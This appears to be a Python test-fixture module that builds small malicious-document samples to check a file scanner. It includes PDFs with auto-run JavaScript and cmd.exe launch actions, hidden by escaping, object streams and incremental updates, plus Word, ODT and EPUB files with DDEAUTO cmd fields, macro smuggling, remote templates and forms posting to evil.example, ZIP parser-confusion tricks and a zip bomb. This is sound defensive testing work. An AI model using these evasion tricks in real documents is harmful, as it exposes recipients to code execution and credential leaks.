"""Files that attack whoever opens them, small and made here: by what they are called in the tests."""

import io
import warnings
import zipfile

from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, String

from tests.builders import PDF, a_zip


def script():
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('x')"))


def changed_pdf(change, content=PDF, **how):
    """A PDF after `change(pdf, page)`, written as `how` says."""
    out = io.BytesIO()
    with Pdf.open(io.BytesIO(content)) as pdf:
        change(pdf, pdf.pages[0].obj)
        pdf.save(out, **{"fix_metadata_version": False, **how})
    return out.getvalue()


def annotation(kind, **more):
    return Dictionary(Type=Name.Annot, Subtype=kind, Rect=Array([0, 0, 50, 50]), **more)


def with_annotation(kind, **more):
    def change(pdf, page):
        page.Annots = Array([pdf.make_indirect(annotation(kind, **more))])

    return changed_pdf(change)


def with_root(**entries):
    def change(pdf, _page):
        for name, value in entries.items():
            pdf.Root[f"/{name}"] = value

    return changed_pdf(change)


def with_link(**action):
    return with_annotation(Name.Link, A=Dictionary(**action))


def with_attachment():
    def change(pdf, _page):
        pdf.attachments["facture.exe"] = b"MZ"

    return changed_pdf(change)


def hidden_in_an_object_stream():
    def change(pdf, _page):
        pdf.Root.OpenAction = pdf.make_indirect(script())

    return changed_pdf(change, object_stream_mode=ObjectStreamMode.generate)


def with_escaped_names():
    return hidden_plainly().replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4aS")


def hidden_plainly():
    return with_root(OpenAction=script())


def named_elsewhere():
    """The name of the action stands in an object of its own, the key of its text is escaped."""

    def change(pdf, _page):
        kind = pdf.make_indirect(Name.Launch)
        pdf.Root.OpenAction = Dictionary(S=kind, F=String("calc.exe"))

    return changed_pdf(change)


def added_afterwards():
    """An incremental update puts the script in; the first state is harmless."""
    start = PDF.rindex(b"startxref") + 10
    before = int(PDF[start:].split()[0])
    root = b"1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(x)>>>>\nendobj\n"
    table = b"xref\n1 1\n%010d 00000 n \n" % len(PDF)
    trailer = b"trailer\n<</Size 7/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        before,
        len(PDF) + len(root),
    )
    return PDF + root + table + trailer


def encrypted_with_nothing():
    def change(pdf, _page):
        pdf.Root.OpenAction = script()

    return changed_pdf(change, encryption=Encryption(owner="x", user=""))


def an_old_form():
    return with_root(AcroForm=Dictionary(Fields=Array(), XFA=String("<xdp/>")))


def a_pdf_field(**more):
    def change(pdf, page):
        field = pdf.make_indirect(
            annotation(Name.Widget, FT=Name.Tx, T=String("nom"), P=page, **more)
        )
        page.Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]))

    return changed_pdf(change)


def with_outside_stream():
    """Written by hand: qpdf would leave the address out."""
    stream = b"6 0 obj\n<</Length 0/F(//evil/share/a)>>stream\n\nendstream"
    start = PDF.index(b"6 0 obj")
    return PDF[:start] + stream + PDF[PDF.index(b"endstream", start) + 9 :]


RISKY_PDFS = {
    "a script when it opens": (hidden_plainly(), "JavaScript"),
    "a script in an object stream": (hidden_in_an_object_stream(), "JavaScript"),
    "a script by escaped names": (with_escaped_names(), "JavaScript"),
    "a script of a later state": (added_afterwards(), "JavaScript"),
    "a script behind an empty password": (encrypted_with_nothing(), "JavaScript"),
    "scripts by name": (
        with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))),
        "JavaScript",
    ),
    "a script when it is printed": (with_root(AA=Dictionary(WP=script())), "JavaScript"),
    "a script of the page": (
        changed_pdf(lambda pdf, page: page.__setitem__("/AA", Dictionary(O=script()))),
        "JavaScript",
    ),
    "a script of a field": (a_pdf_field(AA=Dictionary(K=script())), "JavaScript"),
    "a script behind a harmless step": (
        with_link(S=Name.URI, URI=String("https://imrap-mali.org"), Next=Array([script()])),
        "JavaScript",
    ),
    "a program that starts": (with_link(S=Name.Launch, F=String("cmd.exe")), "start a program"),
    "a program whose name lies elsewhere": (named_elsewhere(), "start a program"),
    "bytes of another file": (with_outside_stream(), "start a program"),
    "a form that is sent": (
        with_link(S=Name.SubmitForm, F=String("https://evil.example")),
        "sent to an address",
    ),
    "a form that is filled": (
        with_link(S=Name.ImportData, F=String("a.fdf")),
        "sent to an address",
    ),
    "a film": (with_annotation(Name.RichMedia), "Films, sounds or 3D"),
    "a 3D model": (with_annotation(Name("/3D")), "Films, sounds or 3D"),
    "a screen": (with_annotation(Name.Screen), "Films, sounds or 3D"),
    "an attached file": (with_attachment(), "attached inside this PDF"),
    "a file pinned to a page": (
        with_annotation(Name.FileAttachment, FS=Dictionary(F=String("a.exe"))),
        "attached inside this PDF",
    ),
    "a form of the old kind": (an_old_form(), "XFA"),
}

# Word, OpenDocument, EPUB

TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">%s</w:document>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100)


def docx(types="", relations="", body="", **parts):
    """A Word document with these types, relations and words; further parts by their names."""
    return a_zip(
        {
            "[Content_Types].xml": TYPES % types,
            "word/document.xml": WORD % body,
            "word/_rels/document.xml.rels": RELATIONS % relations,
            **parts,
        }
    )


def relation(kind, target, mode="External"):
    return f'<Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'


def odt(content="", **parts):
    namespaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "text", "draw", "script")
    )
    body = f'<office:document-content {namespaces} xmlns:xlink="http://www.w3.org/1999/xlink">'
    kind = "application/vnd.oasis.opendocument.text"
    end = "</office:document-content>"
    return a_zip({"mimetype": kind, "content.xml": f"{body}{content}{end}", **parts})


def epub(page="", **parts):
    text = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{page}</body></html>'
    kind = "application/epub+zip"
    return a_zip(
        {"mimetype": kind, "META-INF/container.xml": "<container/>", "a.xhtml": text, **parts}
    )


def runs(*texts):
    return "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)


def two_faced():
    """The table at the end calls an entry otherwise than the head before it does."""
    content = bytearray(docx(**{"word/a.xml": "<a/>"}))
    at = content.index(b"word/a.xml")
    content[at : at + 10] = b"word/b.xml"
    return bytes(content)


def hidden_between():
    """An entry that only a program meets which reads from the beginning on."""
    whole = docx()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/vbaProject.bin", OLE)
    hidden = out.getvalue()[: out.getvalue().index(b"PK\1\2")]
    table = whole.index(b"PK\1\2")
    end = whole.rindex(b"PK\5\6")
    moved = (table + len(hidden)).to_bytes(4, "little")
    tail = whole[end : end + 16] + moved + whole[end + 20 :]
    return whole[:table] + hidden + whole[table:end] + tail


def twice():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        out = io.BytesIO(docx())
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr("Word/Document.xml", WORD % "<w:p/>")
    return out.getvalue()


def bomb():
    return docx(**{"word/media/image1.png": bytes(25 * 2**20)})


VBA = '<Override PartName="/word/x.dat" ContentType="application/vnd.ms-office.vbaProject"/>'
MACRO_MAIN = (
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
)
RISKY_PACKAGES = {
    "macros under another name": ("note.docx", docx(VBA, **{"word/x.dat": "x"}), "macros"),
    "a renamed .docm": ("note.docx", docx(MACRO_MAIN), "macros"),
    "macros by relation": (
        "note.docx",
        docx(
            relations=relation(
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "x.dat",
                "Internal",
            )
        ),
        "macros",
    ),
    "macros by their first bytes": ("note.docx", docx(**{"word/font1.odttf": OLE}), "OLE"),
    "an embedded object": ("note.docx", docx(**{"word/embeddings/oleObject1.bin": OLE}), "OLE"),
    "an ActiveX control": (
        "note.docx",
        docx(
            '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'
        ),
        "OLE",
    ),
    "a program": ("note.docx", docx(**{"word/media/image1.png": b"MZ\x90\0"}), "OLE"),
    "macros in a workbook behind a chart": (
        "note.docx",
        docx(**{"word/embeddings/a.xlsx": docx(MACRO_MAIN)}),
        "macros",
    ),
    "a template from elsewhere": (
        "note.docx",
        docx(
            **{
                "word/_rels/settings.xml.rels": RELATIONS
                % relation(f"{OFFICE}/attachedTemplate", "https://evil.example/a.dotm")
            }
        ),
        "fetches something",
    ),
    "a template from a shared folder": (
        "note.docx",
        docx(
            **{
                "word/_rels/settings.xml.rels": RELATIONS
                % relation(f"{OFFICE}/attachedTemplate", "file://evil/share/a.dotm")
            }
        ),
        "fetches something",
    ),
    "a picture from elsewhere": (
        "note.docx",
        docx(relations=relation(f"{OFFICE}/image", "http://evil.example/p.png")),
        "fetches something",
    ),
    "a link into a shared folder": (
        "note.docx",
        docx(relations=relation(f"{OFFICE}/hyperlink", "\\\\evil\\share")),
        "fetches something",
    ),
    "a field over several runs": (
        "note.docx",
        docx(body=runs(" D", "DE", "AUTO c:\\\\windows\\\\cmd.exe")),
        "DDE",
    ),
    "a field by numbers": ("note.docx", docx(body=runs("&#68;&#x44;E cmd")), "DDE"),
    "a simple field": (
        "note.docx",
        docx(body='<w:fldSimple w:instr="DDEAUTO cmd"/>'),
        "DDE",
    ),
    "a Basic macro": ("note.odt", odt(**{"Basic/Standard/Module1.xml": "<m/>"}), "macros"),
    "a Python script": ("note.odt", odt(**{"Scripts/python/a.py": "x"}), "macros"),
    "an event listener": (
        "note.odt",
        odt("<office:event-listeners><script:event-listener/></office:event-listeners>"),
        "macros",
    ),
    "an event listener under another prefix": (
        "note.odt",
        odt('<x:event-listener xmlns:x="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>'),
        "macros",
    ),
    "a DDE link": ("note.odt", odt('<text:dde-connection-decl office:name="a"/>'), "DDE"),
    "a picture that is fetched": (
        "note.odt",
        odt('<draw:image xlink:type="simple" xlink:href="https://evil.example/p.png"/>'),
        "fetches something",
    ),
    "an object in a document": ("note.odt", odt(**{"Object 1": OLE}), "OLE"),
    "a book with a script": ("livre.epub", epub("<script>x</script>"), "scripts"),
    "a book with a script under a prefix": (
        "livre.epub",
        epub('<x:script xmlns:x="http://www.w3.org/1999/xhtml">x</x:script>'),
        "scripts",
    ),
    "a book with a script that waits": ("livre.epub", epub('<p onclick="x()">a</p>'), "scripts"),
    "a book with a script as an address": (
        "livre.epub",
        epub('<a href="&#106;avascript:x()">a</a>'),
        "scripts",
    ),
    "a book with a picture from elsewhere": (
        "livre.epub",
        epub('<img src="https://evil.example/p.png"/>'),
        "fetches something",
    ),
    "a book with a style from elsewhere": (
        "livre.epub",
        epub(**{"a.css": "@import url(//evil.example/a.css);"}),
        "fetches something",
    ),
    "words of its own": (
        "livre.epub",
        epub(**{"b.xhtml": '<!DOCTYPE a [<!ENTITY b "&lt;script>">]><a>&b;</a>'}),
        "two programs",
    ),
    "two names for one part": ("note.docx", two_faced(), "two programs"),
    "a part between the parts": ("note.docx", hidden_between(), "two programs"),
    "one part twice": ("note.docx", twice(), "two programs"),
    "a bomb": ("note.docx", bomb(), "far too large"),
}
